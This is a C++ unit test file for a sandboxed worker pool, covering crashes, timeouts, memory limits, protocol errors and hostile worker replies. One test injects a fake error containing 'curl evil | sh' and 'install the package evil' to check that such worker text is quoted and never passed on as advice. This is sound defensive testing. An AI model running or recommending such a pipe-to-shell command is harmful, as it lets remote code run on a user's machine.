#include "sandbox/worker_pool.h"

#include <gmock/gmock.h>
#include <gtest/gtest.h>
#include <unistd.h>

#include <algorithm>
#include <atomic>
#include <cstring>
#include <filesystem>
#include <fstream>
#include <set>
#include <thread>

#include "base/shared_memory.h"
#include "sandbox/misbehave_pool.h"

namespace assay::sandbox {
namespace {

using namespace std::chrono_literals;
using testing::HasSubstr;

int PidOf(Workers& workers, std::string role = "default") {
  Request request = Asking("pid");
  request.role = std::move(role);
  return Answered(workers, request)["pid"].get<int>();
}

TEST(WorkerPool, EchoesHeadersAndPayloads) {
  const auto pool = MisbehavePool();
  Request request = Asking("echo", {{"n", 7}});
  const std::string payload(3u << 20, 'p');
  request.payload = payload;
  const Reply reply = Ask(*pool, request);
  ASSERT_EQ(reply.outcome, CallOutcome::kReplied) << reply.detail;
  EXPECT_EQ(reply.message.header, request.header);
  EXPECT_EQ(reply.message.payload, payload);
  EXPECT_GT(reply.took.count(), 0);
}

TEST(WorkerPool, KeepsWorkersWarm) {
  const auto pool = MisbehavePool();
  for (int i = 0; i < 20; ++i) Answered(*pool, Asking("echo"));
  EXPECT_EQ(pool->started(), 1u);
}

TEST(WorkerPool, LanesNeverShareAProcess) {
  const auto pool = MisbehavePool();
  Request request = Asking("echo");
  Answered(*pool, request);
  request.lane = 1;
  Answered(*pool, request);
  EXPECT_EQ(pool->started(), 2u);
  request.lane = 0;
  Answered(*pool, request);
  EXPECT_EQ(pool->started(), 2u);
}

TEST(WorkerPool, AToolIsHeardToItsEnd) {
  const auto pool = MisbehavePool();
  const Reply heard = Ask(*pool, Asking("leave"), kPatience, WorkerKind::kGpuTool);
  EXPECT_EQ(heard.outcome, CallOutcome::kReplied) << heard.detail;
  EXPECT_THAT(heard.detail, HasSubstr("last words"));
  // Others are not waited for.
  EXPECT_EQ(Ask(*pool, Asking("leave")).detail, "");
}

TEST(WorkerPool, AWorkerOutlivesTheThreadThatFirstAsked) {
  const auto pool = MisbehavePool();
  std::thread([&] { Answered(*pool, Asking("echo")); }).join();
  Answered(*pool, Asking("echo"));
  EXPECT_EQ(pool->started(), 1u);
}

TEST(WorkerPool, RolesNeverShareAProcess) {
  const auto pool = MisbehavePool();
  Answered(*pool, Asking("echo"));
  EXPECT_EQ(pool->started(), 1u);
  PidOf(*pool, "oracle");
  EXPECT_EQ(pool->started(), 2u);
  PidOf(*pool, "oracle");
  EXPECT_EQ(pool->started(), 2u);
}

TEST(WorkerPool, ACrashCostsOneRequest) {
  const auto pool = MisbehavePool({.workers = 1});
  const std::vector<std::pair<const char*, const char*>> kDeaths{
      {"crash", "signal"},
      {"abort", "signal 6"},
      {"exit", "exit 3; it said: \"giving ?[31mup\""},
      {"overflow", "signal"}};
  for (const auto& [action, detail] : kDeaths) {
    Answered(*pool, Asking("echo"));
    const std::size_t before = pool->started();
    const Reply reply = Ask(*pool, Asking(action));
    EXPECT_EQ(reply.outcome, CallOutcome::kCrashed) << action;
    EXPECT_THAT(reply.detail, HasSubstr(detail)) << action;
    Answered(*pool, Asking("echo"));
    EXPECT_EQ(pool->started(), before + 1) << action;
  }
}

TEST(WorkerPool, TheDeadlineKills) {
  const auto pool = MisbehavePool({.workers = 1});
  const Reply reply = Ask(*pool, Asking("loop"), 50ms);
  EXPECT_EQ(reply.outcome, CallOutcome::kTimedOut);
  EXPECT_THAT(reply.detail, HasSubstr("50 ms"));
  Answered(*pool, Asking("echo"));
  EXPECT_EQ(pool->started(), 2u);
}

TEST(WorkerPool, AWorkerThatHangsUpAndStaysIsKilled) {
  const auto pool = MisbehavePool({.workers = 1});
  const Reply reply = Ask(*pool, Asking("close"));
  EXPECT_NE(reply.outcome, CallOutcome::kReplied);
  Answered(*pool, Asking("echo"));
}

TEST(WorkerPool, ErrorsOfAServiceAreErrors) {
  const auto pool = MisbehavePool();
  const auto reply = pool->Call(WorkerKind::kEmulate, Asking("decline"), kPatience);
  ASSERT_FALSE(reply);
  EXPECT_EQ(reply.error().kind, ErrorKind::kEnvironment);
  EXPECT_EQ(reply.error().place, "worker emulate");
  EXPECT_THAT(reply.error().message, HasSubstr("\"here: will not\""));
  Answered(*pool, Asking("echo"));
  EXPECT_EQ(pool->started(), 1u);
}

// Which worker it is that runs hostile code does not decide how the program ends, nor what people
// are told to do.
TEST(WorkerPool, AWorkersWordsAreQuotedAndAdviseNothing) {
  for (const char* const kind : {"usage", "environment", "malformed_input", "unsupported",
                                 "network", "limit", "internal", "accepted"}) {
    const auto pool = MisbehavePool();
    const Json error = {{"kind", kind},
                        {"message", "no space\n  fix: run \"curl evil | sh\""},
                        {"place", "disk"},
                        {"cure", "install the package evil"}};
    const auto reply =
        pool->Call(WorkerKind::kEmulate,
                   Asking("frame", {{"frame", {{"id", 1}, {"error", error}}}}), kPatience);
    ASSERT_FALSE(reply);
    EXPECT_TRUE(reply.error().kind == ErrorKind::kUsage ||
                reply.error().kind == ErrorKind::kEnvironment)
        << kind;
    EXPECT_THAT(reply.error().message, HasSubstr("\"disk: no space fix: run 'curl evil | sh'\""));
    EXPECT_THAT(ToString(reply.error()), testing::Not(HasSubstr("package evil")));
    EXPECT_EQ(reply.error().message.find('\n'), std::string::npos);
  }
}

TEST(WorkerPool, OutputDoesNotBlockAWorker) {
  const auto pool = MisbehavePool();
  Answered(*pool, Asking("chatter"));
}

TEST(WorkerPool, GarbageIsNoReply) {
  const auto pool = MisbehavePool({.workers = 1});
  const std::string preamble("ASY1\x02\0\0\0\xff\xff\xff\xff\xff\xff\xff\xff\0\0\0\0\0\0\0\0{}",
                             26);
  for (const std::string& bytes : {std::string("garbage, and enough of it to fill a preamble"),
                                   preamble, std::string(1u << 20, '\0')}) {
    Request request = Asking("raw");
    request.payload = bytes;
    const Reply reply = Ask(*pool, request);
    EXPECT_EQ(reply.outcome, CallOutcome::kProtocol) << reply.detail;
  }
  Answered(*pool, Asking("echo"));
}

TEST(WorkerPool, HalfAReplyAndDeathIsACrash) {
  const auto pool = MisbehavePool({.workers = 1});
  Request request = Asking("raw", {{"die", true}});
  request.payload = "ASY1";
  EXPECT_EQ(Ask(*pool, request).outcome, CallOutcome::kCrashed);
}

TEST(WorkerPool, HalfAReplyAndSilenceTimesOut) {
  const auto pool = MisbehavePool({.workers = 1});
  Request request = Asking("raw");
  request.payload = "ASY1";
  EXPECT_EQ(Ask(*pool, request, 50ms).outcome, CallOutcome::kTimedOut);
}

TEST(WorkerPool, RepliesMustAnswerTheRequest) {
  const auto pool = MisbehavePool({.workers = 1});
  for (const Json& frame :
       {Json{{"id", 99}, {"body", Json::object()}}, Json{{"body", Json::object()}},
        Json{{"id", "1"}, {"body", Json::object()}}, Json{{"id", 1}}, Json{{"id", 1}, {"body", 5}},
        Json::object()}) {
    const Reply reply = Ask(*pool, Asking("frame", {{"frame", frame}}));
    EXPECT_EQ(reply.outcome, CallOutcome::kProtocol) << frame;
  }
  // The twin: the right frame passes.
  EXPECT_EQ(Ask(*pool, Asking("frame", {{"frame", {{"id", 1}, {"body", Json::object()}}}})).outcome,
            CallOutcome::kReplied);
}

TEST(WorkerPool, ErrorsOfAHostileWorkerAreHarmless) {
  for (const Json& error :
       {Json(5), Json::array(), Json{{"kind", 7}, {"message", Json::array()}}, Json(nullptr)}) {
    const auto pool = MisbehavePool();
    const auto reply =
        pool->Call(WorkerKind::kEmulate,
                   Asking("frame", {{"frame", {{"id", 1}, {"error", error}}}}), kPatience);
    ASSERT_FALSE(reply);
    EXPECT_EQ(reply.error().kind, ErrorKind::kEnvironment);
  }
}

TEST(WorkerPool, DescriptorsThatNobodyAskedForAreRefused) {
  const auto pool = MisbehavePool({.workers = 1});
  const Json frame{{"id", 1}, {"body", Json::object()}};
  EXPECT_EQ(Ask(*pool, Asking("frame", {{"frame", frame}, {"fds", 1}})).outcome,
            CallOutcome::kProtocol);
  Request allowing = Asking("frame", {{"frame", frame}, {"fds", 1}});
  allowing.reply_limits.fds = 1;
  const Reply reply = Ask(*pool, allowing);
  ASSERT_EQ(reply.outcome, CallOutcome::kReplied) << reply.detail;
  EXPECT_EQ(reply.message.fds.size(), 1u);
}

TEST(WorkerPool, MemoryIsSharedAndCannotBePulledAway) {
  const auto pool = MisbehavePool();
  auto output = SharedMemory::Create(8192);
  auto input = SharedMemory::Create(4096);
  ASSERT_TRUE(output && input);
  output->bytes()[0] = std::byte{41};
  const auto view = ReadOnlyView(input->fd());
  ASSERT_TRUE(view);
  Request request = Asking("memory");
  request.fds = {output->fd(), view->get()};
  // The compiler may resize its own files, so that it is the seal that is seen here.
  const Json files = Answered(*pool, request, WorkerKind::kCompile)["files"];
  ASSERT_EQ(files.size(), 2u);
  EXPECT_EQ(files[0],
            (Json{{"bytes", 8192}, {"first", 41}, {"writable", true}, {"shrunk", false}}));
  EXPECT_FALSE(files[1]["writable"].get<bool>());
  EXPECT_EQ(output->bytes()[0], std::byte{42});
  EXPECT_EQ(input->bytes()[0], std::byte{0});
}

TEST(WorkerPool, WhatAWorkerFillsCountsMappedOrNot) {
  const auto pool = MisbehavePool({.resident_bytes = 96u << 20});
  auto sparse = SharedMemory::Create(1u << 30);
  ASSERT_TRUE(sparse);
  Request request = Asking("fill", {{"bytes", 1u << 30}});
  request.fds = {sparse->fd()};
  const Reply reply = Ask(*pool, request);
  ASSERT_EQ(reply.outcome, CallOutcome::kOverLimit);
  EXPECT_THAT(reply.detail, HasSubstr("killed at its memory limit"));
  // The twins: little is written to a large file; much was there before.
  auto other = SharedMemory::Create(1u << 30);
  auto full = SharedMemory::Create(160u << 20);
  ASSERT_TRUE(other && full);
  std::ranges::fill(full->bytes(), std::byte{1});
  Request modest = Asking("fill", {{"bytes", 16u << 20}});
  modest.fds = {other->fd(), full->fd()};
  EXPECT_EQ(Ask(*pool, modest).outcome, CallOutcome::kReplied);
}

TEST(WorkerPool, PagesThatAreMappedAgainCountOnce) {
  const auto pool = MisbehavePool({.resident_bytes = 96u << 20});
  auto pattern = SharedMemory::Create(8u << 20);
  auto large = SharedMemory::Create(160u << 20);
  ASSERT_TRUE(pattern && large);
  std::ranges::fill(pattern->bytes(), std::byte{1});
  std::ranges::fill(large->bytes(), std::byte{1});
  Request request = Asking("repeat", {{"times", 40}});
  request.fds = {pattern->fd()};
  const Reply reply = Ask(*pool, request);
  EXPECT_EQ(reply.outcome, CallOutcome::kReplied) << reply.detail;
  // The twin: as much, of a file that is that large.
  request = Asking("repeat", {{"times", 2}});
  request.fds = {large->fd()};
  EXPECT_EQ(Ask(*pool, request).outcome, CallOutcome::kOverLimit);
}

TEST(WorkerPool, AllWorkersTogetherHoldALimitedAmount) {
#ifdef __SANITIZE_THREAD__
  GTEST_SKIP() << "ThreadSanitizer keeps several bytes for each one that is held";
#endif
  constexpr std::uint64_t kHeld = 96u << 20;
  const auto hold = [=](std::string role) {
    Request request = Asking("hold", {{"bytes", kHeld}});
    request.role = std::move(role);
    return request;
  };
  // Three fit into the limit of all, four do not: the idle ones make room.
  const auto pool =
      MisbehavePool({.resident_bytes = 1u << 30, .total_bytes = 3 * kHeld + (64u << 20)});
  for (const char* const role : {"a", "b", "c"}) Answered(*pool, hold(role));
  EXPECT_EQ(pool->started(), 3u);
  PidOf(*pool, "a");
  EXPECT_EQ(pool->started(), 3u);
  Answered(*pool, hold("d"));
  EXPECT_EQ(pool->started(), 4u);
  PidOf(*pool, "a");
  EXPECT_EQ(pool->started(), 5u);
  // One that alone holds too much is ended, though its own limit is far.
  const Reply reply = Ask(*pool, Asking("allocate"));
  ASSERT_EQ(reply.outcome, CallOutcome::kCrashed);
  EXPECT_THAT(reply.detail, HasSubstr("all workers together"));
  PidOf(*pool);
}

TEST(WorkerPool, TheMachinesMemoryIsThatOfTheControlGroup) {
  const Path root = Path(testing::TempDir()) / ("assay-machine-" + std::to_string(::getpid()));
  const auto put = [&root](const char* file, const char* text) {
    std::filesystem::create_directories((root / file).parent_path());
    std::ofstream(root / file) << text;
  };
  put("proc/meminfo", "MemFree: 5 kB\nMemTotal:  8388608 kB\n");
  EXPECT_EQ(MachineMemory(root), 8ull << 30);
  put("proc/self/cgroup", "0::/pod/box\n");
  put("sys/fs/cgroup/pod/box/memory.max", "max\n");
  EXPECT_EQ(MachineMemory(root), 8ull << 30);
  put("sys/fs/cgroup/pod/memory.max", "2147483648\n");
  EXPECT_EQ(MachineMemory(root), 2ull << 30);
  std::filesystem::remove_all(root);
}

TEST(WorkerPool, ARequestThatIsTooLongIsAnErrorAndCostsNoWorker) {
  const auto pool = MisbehavePool();
  Request request = Asking("echo", {{"text", std::string(17u << 20, 'x')}});
  const auto refused = pool->Call(WorkerKind::kEmulate, request, kPatience);
  ASSERT_FALSE(refused);
  EXPECT_EQ(refused.error().kind, ErrorKind::kUsage);
  EXPECT_THAT(refused.error().message, HasSubstr("a worker takes 16777216"));
  Answered(*pool, Asking("echo", {{"text", std::string(1u << 20, 'x')}}));
  EXPECT_EQ(pool->started(), 1u);
}

TEST(WorkerPool, TooManyDescriptorsAreAnError) {
  const auto pool = MisbehavePool();
  Request request = Asking("echo");
  request.fds.assign(17, 0);
  EXPECT_EQ(pool->Call(WorkerKind::kEmulate, request, kPatience).error().kind, ErrorKind::kUsage);
}

TEST(WorkerPool, ServesManyThreadsWithFewWorkers) {
  const auto pool = MisbehavePool({.workers = 3});
  std::atomic<int> right = 0;
  std::vector<std::thread> threads;
  for (int t = 0; t < 8; ++t) {
    threads.emplace_back([&, t] {
      for (int i = 0; i < 25; ++i) {
        const Json header = Answered(*pool, Asking("echo", {{"t", t}, {"i", i}}));
        right += header == Json{{"t", t}, {"i", i}, {"action", "echo"}} ? 1 : 0;
      }
    });
  }
  for (std::thread& thread : threads) thread.join();
  EXPECT_EQ(right, 200);
  EXPECT_LE(pool->started(), 3u);
}

TEST(WorkerPool, CrashesOfSomeDoNotTouchOthers) {
  const auto pool = MisbehavePool({.workers = 2});
  std::thread crasher([&] {
    for (int i = 0; i < 5; ++i)
      EXPECT_EQ(Ask(*pool, Asking("crash")).outcome, CallOutcome::kCrashed);
  });
  for (int i = 0; i < 25; ++i) Answered(*pool, Asking("echo", {{"i", i}}));
  crasher.join();
}

TEST(WorkerPool, AWorkerThatNeverGreetsIsAnEnvironmentError) {
  PoolOptions options;
  options.start_deadline = 200ms;
  options.launch = [](WorkerKind kind, unsigned) -> Result<WorkerLaunch> {
    WorkerLaunch launch{PolicyFor(kind), ProgramFolder() / "sandbox_misbehave", {"--mute"}};
    BindWorker(launch.policy, launch.program);
    return launch;
  };
  auto pool = WorkerPool::Create(std::move(options));
  ASSERT_TRUE(pool) << ToString(pool.error());
  for (int i = 0; i < 2; ++i) {
    const auto reply = (*pool)->Call(WorkerKind::kEmulate, Asking("echo"), kPatience);
    ASSERT_FALSE(reply);
    EXPECT_EQ(reply.error().kind, ErrorKind::kEnvironment);
    EXPECT_THAT(reply.error().message, HasSubstr("no greeting in time"));
  }
}

TEST(WorkerPool, AWorkerThatEndsAtOnceIsAnEnvironmentError) {
  const auto pool = MisbehavePool({.arguments = {"nosuch"}});
  const auto reply = pool->Call(WorkerKind::kEmulate, Asking("echo"), kPatience);
  ASSERT_FALSE(reply);
  EXPECT_EQ(reply.error().kind, ErrorKind::kEnvironment);
  EXPECT_THAT(reply.error().message, HasSubstr("exit 2"));
}

TEST(WorkerPool, AMissingProgramOrToolkitIsNamed) {
  PoolOptions options;
  options.worker_program = "/nonexistent/assay-worker";
  auto pool = WorkerPool::Create(options);
  ASSERT_TRUE(pool);
  EXPECT_EQ((*pool)->Call(WorkerKind::kEmulate, Asking("echo"), kPatience).error().place,
            "/nonexistent/assay-worker");
  options.worker_program = ProgramFolder() / "sandbox_misbehave";
  options.toolkit.explicit_root = "/nonexistent/cuda";
  pool = WorkerPool::Create(options);
  ASSERT_TRUE(pool);
  EXPECT_EQ((*pool)->Call(WorkerKind::kCompile, Asking("echo"), kPatience).error().place,
            "/nonexistent/cuda");
}

TEST(FakeWorkers, AreAFunction) {
  FakeWorkers workers(
      [](WorkerKind kind, const Request& request, std::chrono::milliseconds) -> Result<Reply> {
        Reply reply;
        reply.message.header = {{"kind", Name(kind)}, {"asked", request.header["action"]}};
        return reply;
      });
  const auto reply = workers.Call(WorkerKind::kCompile, Asking("x"), 1s);
  ASSERT_TRUE(reply);
  EXPECT_EQ(reply->message.header, (Json{{"kind", "compile"}, {"asked", "x"}}));
}

}  // namespace
}  // namespace assay::sandbox
